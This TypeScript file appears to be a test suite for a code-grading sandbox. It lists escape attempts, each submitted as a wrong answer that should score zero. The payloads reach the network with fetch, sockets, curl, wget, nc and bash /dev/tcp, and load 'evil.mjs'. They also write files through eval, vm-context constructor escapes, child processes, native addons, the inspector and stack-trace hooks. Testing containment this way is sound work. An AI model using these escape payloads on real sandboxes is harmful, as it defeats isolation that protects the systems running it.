import type { Attack, Context } from './attack.ts';
import { reach, wrong } from './wrong.ts';

const contact = (): ReturnType<NonNullable<Attack['harm']>> => ['contact'];

const calls = (name: string, trick: (port: number) => string): Attack => ({
  name: `reaches the network with ${name}`,
  exercise: '90-1',
  answer: ({ port }) => wrong('90-1', { load: trick(port) }),
  expects: 'zero',
  harm: contact,
});

const starts = (name: string, trick: (file: string) => string, more: Partial<Attack> = {}): Attack => {
  const file = ({ folder }: Context) => `${folder}/${name.replace(/\W+/g, '-')}`;
  return {
    name: `gets out with ${name}`,
    exercise: '90-1',
    answer: (at) => wrong('90-1', { load: trick(file(at)) }),
    expects: 'zero',
    harm: (at) => [{ file: file(at) }],
    ...more,
  };
};

const quoted = JSON.stringify;

/** Reaches for the network, other threads and processes, native code, other modules. */
export const outward: Attack[] = [
  calls(
    'fetch',
    (port) => `try { (globalThis as any).fetch('http://127.0.0.1:${port}/').catch(() => {}); } catch {}`,
  ),
  calls(
    'fetch, and waits for the answer',
    (port) => `try { await (globalThis as any).fetch('http://localhost:${port}/answer'); } catch {}`,
  ),
  calls(
    'a WebSocket',
    (port) =>
      `try { new (globalThis as any).WebSocket('ws://127.0.0.1:${port}/'); new (globalThis as any).EventSource('http://127.0.0.1:${port}/'); } catch {}`,
  ),
  calls(
    'a request of an older kind',
    (port) =>
      `try { const r = new (globalThis as any).XMLHttpRequest(); r.open('GET', 'http://127.0.0.1:${port}/'); r.send(); } catch {}`,
  ),
  calls(
    'a socket',
    (port) =>
      `${reach}\ntry { reach('net').connect(${port}, '127.0.0.1').on('error', () => {}).write('x'); } catch {}`,
  ),
  calls(
    'node:http',
    (port) =>
      `${reach}\ntry { reach('http').get('http://127.0.0.1:${port}/').on('error', () => {}); } catch {}`,
  ),
  calls(
    'a binding',
    (port) =>
      `try { const { TCP } = (globalThis as any).process.binding('tcp_wrap'); new TCP(0).connect({}, '127.0.0.1', ${port}); } catch {}`,
  ),
  calls(
    'curl',
    (port) =>
      `${reach}\nfor (const it of ['curl', 'wget -qO-', 'nc -w1']) try { reach('child_process').execSync(it + ' http://127.0.0.1:${port}/', { timeout: 1000, stdio: 'ignore' }); } catch {}`,
  ),
  calls(
    'bash',
    (port) =>
      `${reach}\ntry { reach('child_process').execSync("bash -c 'echo x > /dev/tcp/127.0.0.1/${port}'", { timeout: 1000, stdio: 'ignore' }); } catch {}`,
  ),
  {
    name: 'listens for the network itself',
    exercise: '90-1',
    answer: wrong('90-1', {
      load: `${reach}\ntry { reach('net').createServer(() => {}).on('error', () => {}).listen(0); reach('dgram').createSocket('udp4').bind(0); } catch {}`,
    }),
    expects: 'zero',
  },
  {
    name: 'reaches the network with the fetch of tensorflow.js',
    exercise: '90-6',
    answer: ({ port }) =>
      wrong('90-6', {
        load: `try { (tf.util as any).fetch('http://127.0.0.1:${port}/').catch(() => {}); } catch {}
try { ((tf.env() as any).platform as any).fetch('http://127.0.0.1:${port}/').catch(() => {}); } catch {}
try { (tf.io as any).http('http://127.0.0.1:${port}/model.json').load().catch(() => {}); } catch {}
try { tf.loadLayersModel('http://127.0.0.1:${port}/model.json').catch(() => {}); } catch {}`,
      }),
    expects: 'zero',
    harm: contact,
  },
  {
    name: 'loads a module over the network',
    exercise: '90-1',
    answer: ({ port }) =>
      wrong('90-1', {
        load: `const at = 'http://127.0.0.1:${port}/evil.mjs';\ntry { await import(at); } catch {}`,
      }),
    expects: 'zero',
    harm: contact,
  },
  {
    name: 'runs a module of the bait',
    exercise: '90-1',
    answer: ({ folder }) =>
      wrong('90-1', {
        load: `const at = ${quoted(`file://${folder}/evil.mjs`)};\ntry { await import(at); } catch {}`,
      }),
    expects: 'zero',
    harm: ({ folder }) => [{ file: `${folder}/evil-was-here` }],
  },
  starts(
    'a data module',
    (file) =>
      `const at = 'data:text/javascript,' + encodeURIComponent("import { writeFileSync } from 'node:fs'; writeFileSync(" + JSON.stringify(${quoted(file)}) + ", 'here')");\ntry { await import(at); } catch {}`,
  ),
  starts(
    'a module with a name that is put together',
    (file) =>
      `const name = ['node', 'fs'].join(':');\ntry { (await import(name)).writeFileSync(${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'a module without its prefix',
    (file) =>
      `const name = 'f' + 's';\ntry { (await import(name)).writeFileSync(${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'import.meta',
    (file) =>
      `try { const m = import.meta as any; const at = m.resolve?.('node:fs') ?? new URL('../', m.url).href; (await import(at)).writeFileSync(${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'a function made of text',
    (file) =>
      `try { (await Function('return import("node:fs")')()).writeFileSync(${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'an async function made of text',
    (file) =>
      `try { const made = Object.getPrototypeOf(async () => {}).constructor; (await made('return import("node:fs")')()).writeFileSync(${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'a generator made of text',
    (file) =>
      `try { const made = Object.getPrototypeOf(function* () {}).constructor; (await made('return import("node:fs")')().next().value).writeFileSync(${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'eval',
    (file) =>
      `try { (await (0, eval)('import("node:fs")')).writeFileSync(${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'a timer of text',
    (file) =>
      `try { (setTimeout as any)(${quoted(`import('node:fs').then((fs) => fs.writeFileSync(${quoted(file)}, 'here'))`)}, 0); } catch {}`,
  ),
  starts(
    'a module found in another way',
    (file) => `${reach}\ntry { reach('fs').writeFileSync(${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'a promise of a file',
    (file) => `${reach}\ntry { await reach('fs/promises').writeFile(${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'a binding of the file system',
    (file) =>
      `try { const b = (globalThis as any).process.binding('fs'); const fd = b.open(${quoted(file)}, 577, 438); b.writeString(fd, 'here', null, 'utf8'); } catch {}`,
  ),
  starts(
    'a shell',
    (file) =>
      `${reach}\ntry { reach('child_process').execSync(${quoted(`echo here > '${file}'`)}); } catch {}`,
  ),
  starts(
    'a forked node',
    (file) =>
      `${reach}\ntry { reach('child_process').spawnSync(reach('process')?.execPath ?? 'node', ['-e', ${quoted(`require('fs').writeFileSync(${quoted(file)}, 'here')`)}]); } catch {}`,
  ),
  starts(
    'a worker',
    (file) =>
      `${reach}\ntry { new (reach('worker_threads').Worker)(${quoted(`require('fs').writeFileSync(${quoted(file)}, 'here')`)}, { eval: true, env: {}, execArgv: [] }); } catch {}`,
  ),
  starts(
    'a cluster',
    (file) =>
      `${reach}\ntry { const c = reach('cluster'); c.setupPrimary({ exec: '/bin/sh', args: ['-c', ${quoted(`echo here > '${file}'`)}] }); c.fork(); } catch {}`,
  ),
  starts(
    'a native addon',
    (file) =>
      `${reach}\nfor (const at of ['/tmp/evil.node', '/lib/x86_64-linux-gnu/libc.so.6']) try { const m = { exports: {} }; (globalThis as any).process.dlopen(m, at); (m.exports as any).system(${quoted(`echo here > '${file}'`)}); } catch {}`,
  ),
  starts(
    'WASI',
    (file) =>
      `${reach}\ntry { const { WASI } = reach('wasi'); new WASI({ version: 'preview1', preopens: { '/': '/' } }); reach('fs').writeFileSync(${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'a module of WebAssembly',
    (file) =>
      `try { const W = (globalThis as any).WebAssembly; const m = new W.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); new W.Instance(m, { env: { file: ${quoted(file)} } }); new W.Memory({ initial: 1, maximum: 65536 }).grow(4096); } catch {}`,
  ),
  starts(
    'the inspector',
    (file) =>
      `${reach}\ntry { const i = reach('inspector'); i.open(0); const s = new i.Session(); s.connect(); s.post('Runtime.evaluate', { expression: ${quoted(`process.mainModule.require('fs').writeFileSync(${quoted(file)}, 'here')`)}, includeCommandLineAPI: true }, () => {}); } catch {}`,
  ),
  starts(
    'the debugger',
    (file) =>
      `try { const p = (globalThis as any).process; p._debugProcess(p.pid); p._debugProcess(p.ppid); p.mainModule.require('fs').writeFileSync(${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'node:vm',
    (file) =>
      `${reach}\ntry { reach('vm').runInThisContext(${quoted(`process.mainModule.require('fs').writeFileSync(${quoted(file)}, 'here')`)}); } catch {}`,
  ),
  starts(
    'a context with its constructor',
    (file) =>
      `${reach}\ntry { reach('vm').runInNewContext('this.constructor.constructor("return process")()').mainModule.require('fs').writeFileSync(${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'a loader of modules',
    (file) =>
      `${reach}\ntry { const m = reach('module'); m.register('data:text/javascript,'); m.createRequire('/')('fs').writeFileSync(${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'a heap snapshot',
    (file) =>
      `${reach}\ntry { reach('v8').writeHeapSnapshot(${quoted(file)}); } catch {}\ntry { reach('v8').setFlagsFromString('--allow-natives-syntax --no-disallow-code-generation-from-strings'); } catch {}`,
  ),
  starts(
    'a report',
    (file) =>
      `try { const r = (globalThis as any).process.report; r.directory = '/'; r.writeReport(${quoted(file)}); } catch {}`,
  ),
  starts(
    'the permissions given back',
    (file) =>
      `${reach}\ntry { const p = (globalThis as any).process; p.permission.has = () => true; p.execArgv.length = 0; reach('fs').writeFileSync(${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'a link',
    (file) =>
      `${reach}\ntry { const fs = reach('fs'); fs.symlinkSync('/', 'root'); fs.writeFileSync('root' + ${quoted(file)}, 'here'); } catch {}`,
  ),
  starts(
    'a shown value',
    (file) => `console.log({ [Symbol.for('nodejs.util.inspect.custom')](_: any, options: any, inspect: any) {
  try { (inspect.constructor('return process')() as any).mainModule.require('fs').writeFileSync(${quoted(file)}, 'here'); } catch {}
  try { options.stylize.constructor('return process')().mainModule.require('fs').writeFileSync(${quoted(file)}, 'here'); } catch {}
  return 'passed';
} });`,
  ),
  starts(
    "an error's stack",
    (file) => `try {
  (Error as any).prepareStackTrace = (_: any, frames: any[]) => frames.map((frame) => {
    try { frame.getThis()?.constructor?.constructor('return process')().mainModule.require('fs').writeFileSync(${quoted(file)}, 'here'); } catch {}
    return frame;
  });
  void new Error().stack;
} catch {}`,
  ),
  {
    name: 'changes to another user and folder',
    exercise: '90-1',
    answer: ({ folder }) =>
      wrong('90-1', {
        load: `try { const p = (globalThis as any).process; p.chdir(${quoted(folder)}); p.umask(0); p.setuid(0); p.title = 'passed'; } catch {}`,
      }),
    expects: 'zero',
  },
  {
    name: 'gets out of its file with a symlink to the bait',
    exercise: '90-4',
    answer: ({ folder }) =>
      wrong('90-4', {
        load: `${reach}\ntry { const fs = reach('fs'); fs.symlinkSync(${quoted(`${folder}/keep.txt`)}, 'mine'); fs.writeFileSync('mine', 'changed'); } catch {}`,
      }),
    expects: 'zero',
    harm: ({ folder }) => [{ unchanged: `${folder}/keep.txt` }],
  },
];
